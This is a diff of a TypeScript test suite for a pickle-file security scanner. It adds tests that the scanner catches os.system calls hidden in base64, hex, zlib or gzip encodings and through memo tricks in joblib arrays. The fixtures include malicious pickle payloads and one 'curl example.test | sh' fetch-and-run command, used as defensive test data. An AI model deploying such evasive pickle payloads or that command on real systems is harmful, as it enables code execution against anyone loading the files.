@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { deflateSync, gzipSync } from 'node:zlib';
 import { evasions, hostile, unresolvable } from '../../formats/pickle/evasions.fixture.ts';
 import { assemblePickle } from '../../formats/pickle/assembler.fixture.ts';
+import { buildZip } from '../../formats/zip/zipBuilder.fixture.ts';
 import { judgeExample } from '../exampleFiles.fixture.ts';
 
 /** Where another name than the last one is a cause of its own. */
@@ -19,9 +21,7 @@ describe('a call that is hidden', () => {
       const told = findings.filter(({ evidence }) => evidence['call'] === "os.system('echo probe')");
       assert.deepEqual(
         told.map(({ ruleId, severity }) => `${severity} ${ruleId}`),
-        told.length > 1 && what === 'a pickle in gzip'
-          ? ['error pickle/dangerous-import', 'error pickle/dangerous-import']
-          : ['error pickle/dangerous-import'],
+        ['error pickle/dangerous-import'],
       );
       const others = findings.filter((finding) => !told.includes(finding));
       const loaders = others.filter(({ message }) => /loads? a second pickle/.test(message));
@@ -96,6 +96,85 @@ describe('a pickle in bytes', () => {
       (await judge(`GLOBAL ${callee}\n${bytes}`)).map(({ severity }) => severity);
     assert.ok((await severities('somelibrary restore')).includes('error'));
     assert.ok(!(await severities('builtins bytearray')).includes('error'));
+  });
+});
+
+describe('a pickle in a value that nothing loads', () => {
+  const inner = Buffer.from(assemblePickle("GLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP"));
+  const gzipped = gzipSync(inner);
+  for (const [how, value] of Object.entries({
+    'in base64': `BINUNICODE '${inner.toString('base64')}'\n`,
+    'in base64 for addresses': `BINUNICODE '${inner.toString('base64url')}'\n`,
+    'in base64, as bytes': `BINBYTES b'${inner.toString('base64')}'\n`,
+    'in base64, as a line': `UNICODE ${inner.toString('base64')}\n`,
+    'in hexadecimal digits': `BINUNICODE '${inner.toString('hex')}'\n`,
+    'in zlib': `BINBYTES hex:${deflateSync(inner).toString('hex')}\n`,
+    'in gzip in base64': `BINUNICODE '${gzipped.toString('base64')}'\n`,
+    'in gzip in gzip': `BINBYTES hex:${gzipSync(gzipped).toString('hex')}\n`,
+  }))
+    it(`${how} is told`, async () => {
+      const findings = await judge(value);
+      assert.ok(
+        findings.some(({ ruleId, severity }) => ruleId === 'pickle/dangerous-import' && severity !== 'info'),
+        JSON.stringify(findings),
+      );
+    });
+
+  it('is none where the bytes only begin like it', async () => {
+    const words = Buffer.from('words '.repeat(50));
+    for (const value of [
+      `BINUNICODE '${Buffer.from('{"hidden_size": 768, "layers": 12}').toString('base64')}'\n`,
+      `BINUNICODE '${'80deadbeef'.repeat(8)}'\n`,
+      `BINUNICODE 'eNcoder.layer.eleven.attention.output.weight'\n`,
+      `BINBYTES hex:1f8b0800${Buffer.from('no stream of gzip'.repeat(30)).toString('hex')}\n`,
+      `BINBYTES hex:${deflateSync(words).toString('hex')}\n`,
+    ]) {
+      const findings = await judgeExample({ file: 'model.pkl', pickle: `PROTO 4\n${value}STOP` });
+      assert.deepEqual(
+        findings.filter(({ severity }) => severity !== 'info'),
+        [],
+        value.slice(0, 60),
+      );
+    }
+  });
+
+  it('that is an archive and the last value does not make the pickle stray data', async () => {
+    const archive = Buffer.from(buildZip([{ name: 'a.txt', data: 'x' }])).toString('hex');
+    const findings = await judgeExample({ file: 'model.pkl', pickle: `PROTO 4\nBINBYTES hex:${archive}\nSTOP` });
+    assert.deepEqual(
+      findings.filter(({ severity }) => severity !== 'info'),
+      [],
+    );
+  });
+});
+
+describe('an array of objects in a joblib file', () => {
+  const wrapper =
+    "GLOBAL joblib.numpy_pickle NumpyArrayWrapper\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nMARK\nBINUNICODE 'shape'\nBININT1 1\nTUPLE1\nBINUNICODE 'dtype'\nGLOBAL numpy dtype\nBINUNICODE 'O8'\nNEWFALSE\nNEWTRUE\nTUPLE3\nREDUCE\nSETITEMS\nBUILD\n";
+  // Its own memo has the module at 0. A plain unpickler would go on with the memo of the pickle around it.
+  const array = (module: string, name: string, argument: string) =>
+    `PROTO 4\nBINUNICODE '${module}'\nMEMOIZE\nPOP\nBINGET 0\nBINUNICODE '${name}'\nSTACK_GLOBAL\nBINUNICODE '${argument}'\nTUPLE1\nREDUCE\nSTOP\n`;
+  const around = (word: string) => `BINUNICODE '${word}'\nMEMOIZE\nPOP\n${wrapper}`;
+
+  it('is read with a memo of its own, and what the other memo would make by chance is not told', async () => {
+    for (const word of ['labels', 'joblib.numpy_pickle', 'os'])
+      assert.deepEqual(await judge(`${around(word)}${array('numpy', 'dtype', 'O8')}`), [], word);
+  });
+
+  it('is read with the memo around it, too, where that makes something dangerous', async () => {
+    const findings = await judge(`${around('os')}${array('numpy', 'system', 'id')}`);
+    assert.ok(findings.some(({ evidence }) => evidence['call'] === "os.system('id')"));
+    const command = await judge(`${around('somelibrary')}${array('numpy', 'dtype', 'curl example.test | sh')}`);
+    assert.ok(command.some(({ severity, message }) => severity === 'error' && message.includes('somelibrary.dtype')));
+  });
+});
+
+describe('the index of a memo', () => {
+  it('is read as Python reads a number, leading zeros and all', async () => {
+    const [finding] = await judge(
+      'UNICODE os\nPUT 007\nPOP\nGET 0_7\nUNICODE system\nSTACK_GLOBAL\nUNICODE id\nTUPLE1\nREDUCE\n',
+    );
+    assert.equal(finding?.evidence['call'], "os.system('id')");
   });
 });
 
